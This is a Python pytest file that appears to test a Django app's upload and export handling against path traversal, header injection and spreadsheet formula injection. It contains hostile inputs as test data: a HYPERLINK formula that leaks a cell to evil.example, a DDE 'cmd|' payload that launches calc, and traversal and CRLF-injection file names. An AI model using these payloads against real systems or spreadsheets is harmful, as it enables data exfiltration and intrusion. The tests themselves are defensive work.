"""Names of files, and files that other programs open: nothing lands or runs where it should not."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from kariz.core import metadata, registry
from kariz.features.transfer.models import ImportFile
from kariz.lib.spreadsheet import SIGNS
from tests import specimens, wizard
from tests.security import sent

ORGANIZATION = registry.get("organization")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Look")'
NAMES = (
    "../../../evil.csv",
    "..\\..\\..\\evil.csv",
    "/etc/evil.csv",
    "C:\\evil.csv",
    "....//....//evil.csv",
    "evil.csv\x00.png",
    'a"; filename=b.html\r\nX-Evil: 1',
    "\u202egpj.csv",
    "CON",
    ".htaccess",
    "~root.csv",
    "%2e%2e%2fevil.csv",
    "e" * 300 + ".csv",
)


class TestUploads:
    @pytest.mark.parametrize("name", NAMES)
    def test_a_file_is_kept_among_the_imports_whatever_it_is_called(self, name, shirin):
        before = outside()
        answer = wizard.upload(shirin, "organization", b"Name\nPars\n", name=name)
        assert answer.status_code in (302, 400, 422)
        kept = [Path(one.file.path).resolve() for one in ImportFile.objects.all()]
        imports = (Path(settings.MEDIA_ROOT) / "imports").resolve()
        assert all(imports in path.parents for path in kept)
        assert outside() == before

    @pytest.mark.parametrize("name", NAMES)
    def test_so_is_one_that_a_program_sends(self, name, shirins):
        before = outside()
        file = SimpleUploadedFile("rows.csv", b"Name\nPars\n")
        file.name = name  # as it is, whatever Django makes of the name of a file of ours
        shirins.client.post("/api/v1/imports", {"file": file, "type": "organization"})
        assert outside() == before

    def test_a_kept_file_has_no_address(self, shirin):
        wizard.upload(shirin, "organization", b"Name\nPars\n")
        kept = Path(ImportFile.objects.get().file.path).relative_to(settings.MEDIA_ROOT)
        for path in (f"/files/{kept}", f"/media/{kept}", f"/static/../files/{kept}", f"/{kept}"):
            assert shirin.get(path).status_code == 404


def outside() -> set[Path]:
    """What there is in the data folder and above it, the imports aside."""
    data = Path(settings.DATA)
    found = {path for path in data.rglob("*") if path.is_file() and "imports" not in path.parts}
    return found | set(data.parent.glob("*evil*"))


class TestDownloads:
    def test_a_name_that_people_chose_begins_no_header_of_its_own(self, shirin, cast):
        specimens.make(ORGANIZATION, cast.reza, 'a"\r\nX-Evil: 1')
        name = 'rows"\r\nX-Evil: 1.csv'
        report = wizard.bring(shirin, "organization", "Name,Phone\n,12\n", name=name)
        file = ImportFile.objects.get()
        answers = [
            report,
            shirin.get(reverse("transfer:failures", args=[file.of_id, file.pk])),
            shirin.post(reverse("export:export", args=["organization"]), sent.export(None)),
        ]
        for answer in answers:
            assert "X-Evil" not in answer.headers
            assert not {"\r", "\n"} & set("".join(answer.headers.values()))

    def test_files_are_downloads_that_no_browser_takes_for_something_else(self, shirin, cast):
        answer = shirin.post(reverse("export:export", args=["organization"]), sent.export(None))
        assert answer["Content-Disposition"].startswith("attachment")
        assert answer["X-Content-Type-Options"] == "nosniff"

    @pytest.mark.parametrize("form", ["iso", "reader"])
    @pytest.mark.parametrize("delimiter", ["comma", "semicolon", "tab"])
    def test_no_cell_of_an_export_is_a_formula_whoever_named_it(self, form, delimiter, shirin, cast):
        named = metadata.add_field(ORGANIZATION, label=FORMULA, type="text").name
        for sign in SIGNS:
            specimens.make(
                ORGANIZATION, cast.reza, f"{sign}cmd|' /C calc'!A1".strip(), **{named: f"{sign}1+1"}
            )
        order = sent.export(None) | {"form": form, "delimiter": delimiter}
        answer = shirin.post(reverse("export:export", args=["organization"]), order)
        assert formulas(b"".join(answer.streaming_content)) == []

    def test_none_of_the_rows_that_failed_is(self, shirin):
        wizard.bring(
            shirin, "organization", f'Name,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n,=1+1\n,@SUM(A1)\n'
        )
        file = ImportFile.objects.get()
        answer = shirin.get(reverse("transfer:failures", args=[file.of_id, file.pk]))
        assert formulas(b"".join(answer.streaming_content)) == []

    def test_none_of_the_audit_log_is(self, cast, shirin, client):
        client.post(
            reverse("web:sign_in"), {"username": FORMULA, "password": "x"}, headers={"User-Agent": "=cmd"}
        )
        answer = shirin.post(reverse("audit:export", args=["csv"]))
        assert formulas(b"".join(answer.streaming_content)) == []


def formulas(content: bytes) -> list[str]:
    """The cells that a spreadsheet would compute; numbers and dates as such are none."""
    told = content.decode("utf-8-sig")
    dialect = next(one for one in ",;\t" if one in told.splitlines()[0])
    cells = [cell for row in csv.reader(io.StringIO(told), delimiter=dialect) for cell in row]
    return [
        cell
        for cell in cells
        if cell.startswith(tuple(SIGNS)) and not cell.lstrip("-").replace(".", "").isdigit()
    ]
